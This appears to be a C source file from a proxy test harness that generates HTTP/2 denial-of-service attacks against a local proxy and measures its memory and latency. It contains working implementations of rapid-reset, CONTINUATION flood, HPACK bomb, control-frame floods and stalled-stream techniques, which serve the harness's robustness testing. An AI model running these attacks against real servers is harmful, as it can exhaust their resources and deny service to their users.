// Attackers by HTTP/2 (reference A40 to A45), at a bounded rate: a few connections that do what is cheap for them and costs the
// proxy something, and come back when they are thrown out, while somebody else measures.
//   --attack NAME   what each does, below   --rate N   steps a second, of all connections together
// The core is shared with those who measure, so steps go out in slices of a millisecond, reconnects are bounded, and the
// priority is low: what p99 beside them says is what the proxy makes of them, not what they cost the generator.
// Memory: at each glance, what the proxy has grown by, against ten times what the connections that are open have sent, 64 KiB
// each, and 16 KiB for each stream that they hold open.
#include "load.h"

#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
    SLICE_NS = 1000000,
    GLANCE_NS = 20000000,
    CONNECTS_MAX = 200, // a second
    PENDING_CAP = 65536,
    HELD_COUNT = 100, // streams that a connection opens to hold them
    DEAF_RECEIVE_LEN = 4096,
    PRIORITY = 10,
    BYTES_FACTOR = 10,
    CONNECTION_LEN = 65536,
    STREAM_LEN = 16384,
    SLACK_LEN = 1048576, // what a glance does not see, and the allocator's own
};

enum { DATA, HEADERS, PRIO, RST, SETTINGS, PING = 6, WINDOW = 8, CONTINUATION = 9, UNKNOWN = 77 };
enum { END_STREAM = 1, ACK = 1, END_HEADERS = 4, PADDED = 8, WHOLE = 5 };
enum { NO_WINDOW = 0, WINDOW_DEFAULT = 65535, WINDOW_MAX = 2147483647 };

struct attacker {
    int fd; // -1: it is out
    uint32_t id, step, held_count;
    uint64_t sent_len;
    size_t len, at; // pending
    char pending[PENDING_CAP];
};

struct attack {
    const char *name;
    uint32_t window; // that it gives each stream
    bool is_deaf;    // reads nothing
    void (*step)(struct attacker *one);
};

// ---- frames

static void put(struct attacker *one, const void *bytes, size_t len)
{
    if (one->len + len > sizeof one->pending)
        return;
    memcpy(one->pending + one->len, bytes, len);
    one->len += len;
}

static void put_u32(struct attacker *one, uint32_t n)
{
    put(one, (unsigned char[]){n >> 24, n >> 16, n >> 8, n}, 4);
}

static void frame_head(struct attacker *one, size_t len, int type, int flags, uint32_t id)
{
    unsigned char head[] = {len >> 16, len >> 8, len, type, flags};
    put(one, head, sizeof head);
    put_u32(one, id);
}

static void frame(struct attacker *one, int type, int flags, uint32_t id, const void *bytes,
                  size_t len)
{
    frame_head(one, len, type, flags, id);
    put(one, bytes, len);
}

static void frame_u32(struct attacker *one, int type, uint32_t id, uint32_t value)
{
    frame_head(one, 4, type, 0, id);
    put_u32(one, value);
}

static size_t length(char *to, size_t len) // RFC 7541 5.1, prefix of 7 bits
{
    size_t at = 0;
    if (len < 127) {
        to[0] = (char)len;
        return 1;
    }
    to[at++] = 127;
    for (len -= 127; len >= 128; len /= 128)
        to[at++] = (char)(len % 128 + 128);
    to[at++] = (char)len;
    return at;
}

static size_t field(char *to, int kind, const char *name, const char *value)
{
    size_t at = 0, name_len = strlen(name), value_len = strlen(value);
    to[at++] = (char)kind;
    at += length(to + at, name_len);
    memcpy(to + at, name, name_len);
    at += name_len;
    at += length(to + at, value_len);
    memcpy(to + at, value, value_len);
    return at + value_len;
}

enum { LITERAL = 0, INDEXED = 0x40 };

static size_t request(char *to, const char *method, const char *path)
{
    size_t len = field(to, LITERAL, ":method", method);
    len += field(to + len, LITERAL, ":scheme", "http");
    len += field(to + len, LITERAL, ":authority", "127.0.0.1");
    return len + field(to + len, LITERAL, ":path", path);
}

static uint32_t open_stream(struct attacker *one, const char *method, const char *path, int flags)
{
    char block[512];
    size_t len = request(block, method, path);
    if (*method == 'P')
        len += field(block + len, LITERAL, "content-length", "5");
    uint32_t id = one->id;
    one->id += 2;
    frame(one, HEADERS, flags, id, block, len);
    return id;
}

// ---- what they do, a step at a time

static void innocent(struct attacker *one)
{
    open_stream(one, "GET", "/128", WHOLE);
    frame_u32(one, WINDOW, 0, 128); // what its answer takes
}

static void resets(struct attacker *one) // A40
{
    frame_u32(one, RST, open_stream(one, "GET", "/128", WHOLE), 8);
}

static void block_of(struct attacker *one, const void *bytes, size_t len)
{
    if (one->step == 0)
        open_stream(one, "GET", "/128", END_STREAM);
    frame(one, CONTINUATION, 0, one->id - 2, bytes, len);
}

static void continuations(struct attacker *one) // A41
{
    block_of(one, "", 0);
}

static void continuation_fields(struct attacker *one)
{
    char block[1024];
    size_t len = 0;
    while (len + 16 < sizeof block)
        len += field(block + len, LITERAL, "x-a", "b");
    block_of(one, block, len);
}

static void provocations(struct attacker *one) // A42
{
    uint32_t id = open_stream(one, "POST", "/128", END_HEADERS);
    char trailers[64];
    size_t len = field(trailers, LITERAL, "a", "b");
    switch (one->step % 6) {
    case 0:
        frame_u32(one, WINDOW, id, 0);
        break;
    case 1:
        frame_u32(one, WINDOW, id, WINDOW_MAX);
        break;
    case 2:
        frame(one, PRIO, 0, id, "abcd", 4);
        break;
    case 3:
        frame(one, DATA, 0, id, "123456", 6);
        break;
    case 4:
        frame(one, DATA, END_STREAM, id, "1", 1);
        break;
    default:
        frame(one, HEADERS, END_HEADERS, id, trailers, len);
    }
}

// A request with `count` references of a byte to a field of 3,900.
static void references(struct attacker *one, const char *path, size_t count)
{
    static const char newest = (char)(0x80 | 62);
    char block[512 + 4096 + 16384], value[3901];
    size_t len = request(block, "GET", path);
    if (one->step == 0) {
        memset(value, 'v', sizeof value - 1);
        value[sizeof value - 1] = 0;
        len += field(block + len, INDEXED, "x-long", value);
        count = 0;
    }
    memset(block + len, newest, count);
    frame(one, HEADERS, WHOLE, one->id, block, len + count);
    one->id += 2;
}

static void bomb(struct attacker *one) // A43
{
    references(one, "/128", 16000);
}

static void drip_windows(struct attacker *one)
{
    frame_u32(one, WINDOW, one->step % HELD_COUNT * 2 + 1, 1);
}

static void hold_head(struct attacker *one, size_t count)
{
    if (one->held_count == HELD_COUNT) {
        drip_windows(one);
        return;
    }
    references(one, "/65536", count);
    one->held_count++;
}

static void bomb_drip(struct attacker *one) // 27 KB, within the limits of a head
{
    hold_head(one, 7);
}

static void bomb_small(struct attacker *one) // as much as a reference may
{
    hold_head(one, 1);
}

static void settings(struct attacker *one) // A44
{
    frame(one, SETTINGS, 0, 0, "\0\1\0\0\0\0\0\1\0\0\x10\0", 12);
}

static void pings(struct attacker *one)
{
    frame(one, PING, 0, 0, "12345678", 8);
}

static void pongs(struct attacker *one)
{
    frame(one, PING, ACK, 0, "12345678", 8);
}

static void priorities(struct attacker *one)
{
    frame(one, PRIO, 0, 1001, "\0\0\0\0\1", 5);
}

static void windows(struct attacker *one)
{
    frame_u32(one, WINDOW, 0, 1);
}

static void unknowns(struct attacker *one)
{
    frame_head(one, 0, UNKNOWN, 0, 0);
}

static void data_of(struct attacker *one, int flags, const void *bytes, size_t len)
{
    if (one->step == 0) {
        open_stream(one, "POST", "/128", END_HEADERS);
        one->held_count = 1;
    }
    frame(one, DATA, flags, 1, bytes, len);
}

static void empty_data(struct attacker *one)
{
    data_of(one, 0, "", 0);
}

static void padding(struct attacker *one)
{
    data_of(one, PADDED, "\3\0\0\0", 4);
}

static void stall(struct attacker *one) // A45
{
    if (one->held_count == HELD_COUNT)
        return;
    open_stream(one, "GET", "/10485760", WHOLE);
    one->held_count++;
}

static void window_drip(struct attacker *one)
{
    if (one->held_count == HELD_COUNT)
        drip_windows(one);
    else
        stall(one);
}

static const struct attack attacks[] = {
    {"innocent", WINDOW_DEFAULT, false, innocent},
    {"resets", WINDOW_DEFAULT, false, resets},
    {"continuations", WINDOW_DEFAULT, false, continuations},
    {"continuation-fields", WINDOW_DEFAULT, false, continuation_fields},
    {"provocations", WINDOW_DEFAULT, false, provocations},
    {"bomb", NO_WINDOW, false, bomb},
    {"bomb-drip", NO_WINDOW, false, bomb_drip},
    {"bomb-small", NO_WINDOW, false, bomb_small},
    {"settings", WINDOW_DEFAULT, false, settings},
    {"pings", WINDOW_DEFAULT, false, pings},
    {"pings-deaf", WINDOW_DEFAULT, true, pings},
    {"pongs", WINDOW_DEFAULT, false, pongs},
    {"priorities", WINDOW_DEFAULT, false, priorities},
    {"windows", WINDOW_DEFAULT, false, windows},
    {"unknowns", WINDOW_DEFAULT, false, unknowns},
    {"empty-data", WINDOW_DEFAULT, false, empty_data},
    {"padding", WINDOW_DEFAULT, false, padding},
    {"stall", NO_WINDOW, false, stall},
    {"window-drip", NO_WINDOW, false, window_drip},
    {"deaf", WINDOW_MAX, true, stall},
};

static const struct attack *attack_of(const char *name)
{
    for (size_t i = 0; name && i < sizeof attacks / sizeof *attacks; i++)
        if (strcmp(attacks[i].name, name) == 0)
            return &attacks[i];
    fprintf(stderr, "load: no attack %s\n", name ? name : "is named");
    exit(2);
}

// ---- connections

static void leave(struct attacker *one)
{
    close(one->fd);
    one->fd = -1;
}

static void enter(const struct options *options, const struct attack *attack, struct attacker *one)
{
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    one->fd = connect_to(options->port, attack->is_deaf ? DEAF_RECEIVE_LEN : 0);
    one->id = 1;
    one->step = one->held_count = 0;
    one->sent_len = one->len = one->at = 0;
    put(one, preface, sizeof preface - 1);
    frame_head(one, 6, SETTINGS, 0, 0);
    put(one, "\0\4", 2);
    put_u32(one, attack->window);
    if (attack->window == WINDOW_MAX)
        frame_u32(one, WINDOW, 0, WINDOW_MAX - WINDOW_DEFAULT);
}

// False: it has been thrown out. Who is deaf learns of it by sending alone.
static bool is_in(const struct attack *attack, struct attacker *one)
{
    static char bytes[65536];
    ssize_t n = 1;
    struct pollfd end = {.fd = one->fd, .events = POLLRDHUP};
    if (attack->is_deaf)
        return poll(&end, 1, 0) == 0;
    for (int i = 0; i < 4 && n > 0; i++)
        n = recv(one->fd, bytes, sizeof bytes, MSG_DONTWAIT);
    return n > 0 || (n < 0 && errno == EAGAIN);
}

static bool flush(struct attacker *one)
{
    ssize_t n = 0;
    if (one->at < one->len)
        n = send(one->fd, one->pending + one->at, one->len - one->at, MSG_NOSIGNAL | MSG_DONTWAIT);
    if (n < 0)
        return errno == EAGAIN || errno == ENOTCONN;
    one->at += (size_t)n;
    one->sent_len += (size_t)n;
    if (one->at == one->len)
        one->at = one->len = 0;
    return true;
}

static void run_one(const struct options *options, const struct attack *attack,
                    struct report *report, struct attacker *one, uint32_t count)
{
    if (one->fd < 0) {
        if (report->connect_count >= report->attack.connect_quota)
            return;
        enter(options, attack, one);
        report->connect_count++;
    }
    // what the proxy does not take is not replaced by more
    for (uint32_t i = 0; i < count && one->at == 0 && one->len < PENDING_CAP / 2; i++) {
        attack->step(one);
        one->step++;
        report->attack.step_count++;
    }
    if (flush(one) && is_in(attack, one))
        return;
    report->attack.end_count++;
    leave(one);
}

static void glance(const struct options *options, const struct attacker *all, struct report *report)
{
    uint64_t len = usage_glance_len(options->pid), allowed = SLACK_LEN;
    for (uint32_t i = 0; i < options->connections; i++)
        if (all[i].fd >= 0)
            allowed += BYTES_FACTOR * all[i].sent_len + CONNECTION_LEN +
                       (uint64_t)STREAM_LEN * all[i].held_count;
    uint64_t held = len > report->before.rss_len ? len - report->before.rss_len : 0;
    double share = (double)held / (double)allowed;
    if (share <= report->attack.share)
        return;
    report->attack.share = share;
    report->attack.held_len = held;
}

static void rest_until(uint64_t at_ns)
{
    struct timespec at = {(time_t)(at_ns / 1000000000u), (long)(at_ns % 1000000000u)};
    while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &at, NULL) == EINTR) {
    }
}

static uint64_t own_cpu_ns(void)
{
    struct timespec at;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &at);
    return (uint64_t)at.tv_sec * 1000000000u + (uint64_t)at.tv_nsec;
}

void attack_run(const struct options *options, struct report *report)
{
    const struct attack *attack = attack_of(options->attack);
    struct attacker *all = calloc(options->connections, sizeof *all);
    if (!all)
        fail("calloc");
    for (uint32_t i = 0; i < options->connections; i++)
        all[i].fd = -1;
    setpriority(PRIO_PROCESS, 0, PRIORITY);
    report->before.rss_len = usage_glance_len(options->pid);
    uint64_t start = now_ns(), end = start + (uint64_t)(options->seconds * 1e9);
    uint64_t done = 0, cpu_ns = own_cpu_ns(), glanced = 0, at = start;
    for (uint32_t next = 0; at < end; at = now_ns()) {
        uint64_t gone = at - start;
        uint64_t due = (uint64_t)((double)gone * options->rate / 1e9);
        // a delay is not made up for at once
        uint64_t slice = (uint64_t)(options->rate * SLICE_NS * 4 / 1e9) + 1;
        uint32_t count = (uint32_t)(due - done < slice ? due - done : slice);
        report->attack.connect_quota = options->connections + gone * CONNECTS_MAX / 1000000000u;
        for (; count > 0; count -= count < 4 ? count : 4, next++)
            run_one(options, attack, report, &all[next % options->connections],
                    count < 4 ? count : 4);
        done = due;
        if (at - glanced > GLANCE_NS) {
            glance(options, all, report);
            glanced = at;
        }
        rest_until(at + SLICE_NS);
    }
    report->seconds = (double)(now_ns() - start) / 1e9;
    report->attack.cpu_ns = own_cpu_ns() - cpu_ns;
    report->after.rss_len = usage_glance_len(options->pid);
    for (uint32_t i = 0; i < options->connections; i++)
        if (all[i].fd >= 0)
            leave(&all[i]);
    free(all);
}
